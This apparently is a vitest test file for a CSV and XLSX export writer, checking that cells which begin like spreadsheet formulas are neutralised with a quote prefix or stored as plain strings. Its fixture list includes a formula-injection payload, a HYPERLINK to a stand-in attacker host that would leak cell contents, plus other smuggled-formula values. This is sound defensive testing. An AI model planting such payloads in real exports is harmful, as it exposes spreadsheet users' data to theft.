import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, startsLikeFormula } from './formula-guard';
import { createRowWriter, type ExportFormat } from './row-writer';

/** Writes rows with the export writer and returns the bytes. */
async function exportBytes(
  format: ExportFormat,
  headers: string[],
  rows: Array<Array<string | number | null>>,
): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      callback();
    },
  });
  const writer = createRowWriter(format, out, headers);
  for (const row of rows) await writer.write(row);
  await writer.end();
  return Buffer.concat(chunks);
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

describe('CSV export and formula injection (OWASP)', () => {
  it('prefixes text cells that would start a formula with a quote, and quotes them', async () => {
    const csv = (
      await exportBytes(
        'csv',
        ['name', 'bounce'],
        FORMULAS.map((f) => [f, 'ok']),
      )
    ).toString('utf8');
    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",ok`);
    const read = parse(csv, { columns: true }) as Array<{ name: string }>;
    expect(read.map((r) => r.name)).toEqual(FORMULAS.map((f) => `'${f}`));
  });

  it('keeps numbers as numbers, a negative one included', async () => {
    const csv = (await exportBytes('csv', ['n'], [[-5], [3.5]])).toString('utf8');
    expect(csv).toBe('n\n-5\n3.5\n');
  });

  it('guards the header too (export columns are named after profile fields)', async () => {
    const csv = (await exportBytes('csv', ['=cmd', 'b'], [])).toString('utf8');
    expect(csv).toBe(`"'=cmd",b\n`);
  });

  it('quotes a cell with a semicolon, which a spreadsheet set to semicolons would split into a formula', async () => {
    const csv = (await exportBytes('csv', ['a'], [['x;=1+1']])).toString('utf8');
    expect(csv).toBe('a\n"x;=1+1"\n');
  });

  it('property: any text read back by a CSV parser is what was written but for the documented prefix, and never starts a formula', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })), { maxLength: 8 }),
        async (rows) => {
          const csv = (await exportBytes('csv', ['a', 'b'], rows)).toString('utf8');
          const read = parse(csv, { relax_column_count: false }) as string[][];
          expect(read).toEqual([['a', 'b'], ...rows.map((row) => row.map(neutralizeFormula))]);
          for (const cell of read.flat()) expect(startsLikeFormula(cell)).toBe(false);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('XLSX export', () => {
  it('writes text that looks like a formula as a string cell, never a formula, and unchanged', async () => {
    // XML reads a CR as a line feed, which is XML's business and not a formula's: leave that one out.
    const texts = FORMULAS.filter((f) => !f.startsWith('\r'));
    const bytes = await exportBytes(
      'xlsx',
      ['name'],
      texts.map((f) => [f]),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    const cells = texts.map((_, i) => sheet.getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(texts.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual(texts);
    expect(bytes.length).toBeGreaterThan(0);
  });
});
